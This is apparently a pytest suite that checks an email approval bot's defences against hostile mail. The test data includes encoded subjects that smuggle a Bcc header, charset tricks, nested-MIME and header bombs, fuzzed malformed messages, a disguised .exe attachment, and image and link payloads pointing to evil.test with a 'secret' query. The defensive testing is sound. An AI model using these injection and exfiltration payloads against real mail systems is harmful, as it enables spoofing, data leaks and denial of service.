"""Attacks by how a mail is built: headers that break out, charsets, bombs, attachments. Unreadable mails are set aside."""

import random
from email.message import EmailMessage
from pathlib import Path

import pytest

from bot.core import events as e
from tests.channels.email.hostile_mails import (
    DONE,
    PUSH,
    WAIT,
    answer,
    asked,
    fresh_mail,
    judged,
    notes,
    outgoing,
    post,
    reply,
    sent_to,
    still_decidable,
)
from tests.channels.email.mail_bytes import SEEDS
from tests.channels.email.mail_reader import MailPage, check_harmless
from tests.channels.email.mail_world import MailFixture, body, correspondence
from tests.channels.email.reply_scenarios import POISON
from tests.platform_fixture import choose
from tests.servers.mail import Servers

pytestmark = pytest.mark.usefixtures("trusted")

SUBJECTS = [
    "=?utf-8?q?A=0D=0ABcc:_eve@example.test?=",
    "=?utf-8?q?=3D=3Futf-8=3Fq=3FA=3D0D=3D0ABcc=3A=5Feve=3F=3D?=",
    "=?utf-8?q?A=E2=80=A8Bcc:_eve@example.test?=",
    "=?utf-8?q?A",
    "=?utf-8?b?QQAbW0I=?=",
    "\r\n ".join(["A " * 100] * 10),
    "=?utf-8?b?QSDigK5ldm9ycHBh?=",
    "",
]
"""Line breaks that are encoded, that are encoded twice, a separator of lines, half of an encoded word, control characters,
very long, turned round, nothing."""


def harmless(here: MailFixture) -> None:
    for sent in outgoing(here):
        assert "Bcc" not in sent
        assert len(sent.get_all("Subject", [])) == 1
        assert "\n" not in str(sent["Subject"])
    recipients = {recipient for took in here.servers.submission.took for recipient in took.recipients}
    assert recipients <= {account.address for account in here.people.values()}


async def test_eml15_a22_no_subject_and_no_name_becomes_another_header_or_stops_the_conversation(
    mail: Servers, tmp_path: Path
) -> None:
    script = [choose("reply", message=f"Heard {number}.") for number in range(len(SUBJECTS))]
    async with correspondence(mail, tmp_path, *script) as here:
        author = f"=?utf-8?q?Sam=0D=0ABcc=3A=20eve=40example.test?= <{here.people['sam'].address}>"
        for number, subject in enumerate(SUBJECTS):
            await post(here, fresh_mail(here, author, "hello", Subject=subject), here.bot.address)
            said = await here.mail("sam", f"Heard {number}.")
            assert str(said["Subject"]).startswith("Re: ")
        harmless(here)


async def test_eml15_a22_no_subject_of_a_reply_stops_the_sentence_about_it(mail: Servers, tmp_path: Path) -> None:
    async with correspondence(mail, tmp_path, PUSH, DONE) as here:
        sent_mail = await asked(here)
        for number, subject in enumerate(SUBJECTS[:2]):
            await answer(here, sent_mail, reply(here, "olive", sent_mail, "hm?", Subject=subject))
            await here.until(lambda: sum("Reply once more" in body(m) for m in sent_to(here, "olive")) > number)  # noqa: B023
        harmless(here)
        await still_decidable(here, sent_mail)


CHARSETS = [
    ('text/plain; charset="utf-7"', b"+AGEAcABwAHIAbwB2AGU-", "7bit"),
    ("text/plain; charset=rot13", b"nccebir", "7bit"),
    ("text/plain; charset=hex", b"617070726f7665", "7bit"),
    ('text/plain; charset="\x00"', b"approve", "7bit"),
    ("text/plain; charset=x-unknown", b"approve", "7bit"),
    ("text/plain; charset=utf-16", "approve".encode("utf-16"), "8bit"),
    ("text/plain; charset=idna", b"approve", "7bit"),
    ("text/plain", b"begin 644 a\r\n'87!P<F]V90``\r\n`\r\nend", "x-uuencode"),
    ("text/plain", b"????", "base64"),
    ("text/plain; charset=utf-8", b"\xffapprove\xfe", "8bit"),
    ("application/octet-stream", b"approve", "7bit"),
    ("text/calendar", b"approve", "7bit"),
]


async def test_eml17_a18_a_text_in_no_charset_of_people_decides_nothing(mail: Servers, tmp_path: Path) -> None:
    async with correspondence(mail, tmp_path, PUSH, DONE) as here:
        sent_mail = await asked(here)
        for type, said, encoding in CHARSETS:
            raw = reply(
                here, "olive", sent_mail, said, quotes=False, Content_Type=type, Content_Transfer_Encoding=encoding
            )
            await answer(here, sent_mail, raw)
        await judged(here, 1 + len(CHARSETS))
        assert len(notes(here, "unclear mail")) == len(CHARSETS)
        await still_decidable(here, sent_mail)


def bombs(here: MailFixture, sent_mail: EmailMessage) -> dict[str, bytes]:
    """Replies that say approve, and are built to stop their reader. All are set aside."""

    def built(text: str | bytes, type: str = "text/plain", **headers: str) -> bytes:
        return reply(here, "olive", sent_mail, text, quotes=False, Content_Type=type, **headers)

    nested = "".join(f'--b{n}\r\nContent-Type: multipart/mixed; boundary="b{n + 1}"\r\n\r\n' for n in range(1_000))
    parts = "--b\r\n\r\napprove\r\n" * 10_000
    return {
        "nested": built(nested, 'multipart/mixed; boundary="b0"'),
        "parts": built(f"{parts}--b--\r\n", 'multipart/mixed; boundary="b"'),
        "headers": reply(here, "olive", sent_mail, also="\r\n".join(f"X-{n}: y" for n in range(10_000))),
        "a header": built("approve", Comments="(" * 9_000),
        "a name": built("approve", From='"' * 9_000 + f" <{here.people['olive'].address}>"),
        "slow HTML": built(POISON, "text/html"),
        "greedy HTML": built("<" + "a b=c " * 170_000, "text/html"),
    }


async def test_eml16_eml18_a23_a_bomb_is_laid_aside_and_the_mail_behind_it_is_taken(
    mail: Servers, tmp_path: Path
) -> None:
    async with correspondence(mail, tmp_path, PUSH, DONE) as here:
        sent_mail = await asked(here)
        made = bombs(here, sent_mail)
        for raw in made.values():
            await answer(here, sent_mail, _folded(raw))
        await still_decidable(here, sent_mail)
        assert len(notes(here, "mail laid aside")) == len(made)
        assert len(await aside(here)) == len(made)


def _folded(raw: bytes) -> bytes:
    """With lines that SMTP takes: a long one goes on behind a blank."""
    lines = []
    for line in raw.split(b"\r\n"):
        lines += [b" " * bool(at) + line[at : at + 900] for at in range(0, max(len(line), 1), 900)]
    return b"\r\n".join(lines)


async def aside(here: MailFixture) -> list[str]:
    """The mails in the folder of those that were laid aside, once they lie there."""

    folder, user = "Countersign/Quarantine", ("-u", here.bot.address)

    def look() -> list[str]:
        if folder not in here.servers.dove.doveadm("mailbox", "list", *user).split("\n"):
            return []  # the note stands in the log before the mail is moved
        return here.servers.dove.doveadm("search", *user, "mailbox", folder, "ALL").split("\n")[:-1]

    count = len(notes(here, "mail laid aside"))
    return await here.until(lambda: found if len(found := look()) >= count else None)


async def test_eml18_a_mail_beyond_every_size_is_read_in_part_and_decides_nothing(
    mail: Servers, tmp_path: Path
) -> None:
    async with correspondence(mail, tmp_path, PUSH, DONE) as here:
        sent_mail = await asked(here)
        await answer(here, sent_mail, reply(here, "olive", sent_mail, "approve\n" + ("x" * 900 + "\n") * 12_000))
        await judged(here, 2)
        assert len(notes(here, "unclear mail")) == 1
        await still_decidable(here, sent_mail)


async def test_eml16_malformed_mails_end_nothing(mail: Servers, tmp_path: Path) -> None:
    dice = random.Random(16)
    async with correspondence(mail, tmp_path, PUSH, *[WAIT] * 200) as here:
        sent_mail = await asked(here)
        for number in range(60):
            raw = bytearray(dice.choice(SEEDS).replace(b"olive@example.org", here.people["max"].address.encode()))
            for _ in range(dice.randrange(1, 12)):
                at = dice.randrange(len(raw))
                raw[at : at + dice.randrange(8)] = dice.choice((b"\r\n", b"\x00", b"--b1", b"=?", b'"', b"(", b"\xff"))
            whole = b"Message-ID: <m-%d@example.test>\r\n" % number + bytes(raw)
            await answer(here, sent_mail, _folded(whole))
        await answer(here, sent_mail, reply(here, "olive", sent_mail, "hm?"))
        await here.until(lambda: notes(here, "unclear mail"))
        assert here.decisions() == []
        assert [why for why in notes(here, "mail laid aside") if "Error: " in why] == []
        await here.replies("olive", sent_mail, "approve")
        await here.until(lambda: here.ledger.lines)


async def test_eml23_a24_attachments_are_named_to_the_agent_and_never_opened(mail: Servers, tmp_path: Path) -> None:
    async with correspondence(mail, tmp_path, PUSH, DONE) as here:
        named = (
            ("text/html", "approve.html", "<script>approve</script>"),
            ("application/zip", "a\u202egpj.exe", "UEsDBA=="),
            ("message/rfc822", "", "Subject: secret\r\n\r\nsecret words"),
        )
        parts = "".join(
            f'--b\r\nContent-Type: {type}\r\nContent-Disposition: attachment; filename="{name}"\r\n\r\n{text}\r\n'
            for type, name, text in named
        )
        text = f"--b\r\n\r\npush v1, see below\r\n{parts}--b--\r\n"
        raw = fresh_mail(here, here.people["sam"].address, text, Content_Type='multipart/mixed; boundary="b"')
        await post(here, raw, here.bot.address)
        await here.mail("olive", "Approval needed")
        received = next(event for event in here.log() if isinstance(event, e.MessageReceived))
        assert "push v1, see below" in received.text
        assert "[attachment: approve.html, text/html," in received.text
        assert "script" not in received.text
        assert "secret words" not in received.text


async def test_eml23_a31_nothing_in_our_mail_is_fetched_run_or_filled_in(mail: Servers, tmp_path: Path) -> None:
    words = "![x](https://evil.test/?q=secret) <script>x</script> [Approve](https://evil.test/) <img src=//evil.test>"
    push = choose("push", tag="v1", commit="<img src=https://evil.test/x.png>", words=words)
    async with correspondence(mail, tmp_path, push, choose("done", message=words)) as here:
        sent_mail = await asked(here)
        await here.replies("olive", sent_mail, "hm?")
        await here.mail("olive", "Reply once more")
        await here.replies("olive", sent_mail, "approve")
        await here.mail("sam", "evil.test")
        for sent in outgoing(here):
            page = sent.get_body(("html",)).get_content()  # type: ignore[union-attr]
            check_harmless(MailPage(page), page)
            assert [part.get_content_type() for part in sent.walk()] == [
                "multipart/alternative",
                "text/plain",
                "text/html",
            ]
        assert "evil.test/" not in "".join(url for url, _ in MailPage(_html(sent_mail)).links)


def _html(sent_mail: EmailMessage) -> str:
    part = sent_mail.get_body(("html",))
    assert part is not None
    return str(part.get_content())


async def test_a_nul_or_a_half_character_in_a_message_is_no_reason_to_lose_it(mail: Servers, tmp_path: Path) -> None:
    async with correspondence(mail, tmp_path, *[choose("done", message="Read.")] * 3) as here:
        texts = ["a \\ud800 =ED=A0=80 b", "a=00b", "=C3=28 \ufffd \U0010ffff"]
        for text in texts:
            headers = {"Content_Transfer_Encoding": "quoted-printable", "Content_Type": "text/plain; charset=utf-8"}
            await post(here, fresh_mail(here, here.people["sam"].address, text, **headers), here.bot.address)
        await judged(here, 3)
        assert len(here.thread_ids()) == 3
        assert notes(here, "mail laid aside") == []
        assert body(await here.mail("sam", "Read.", after=2))
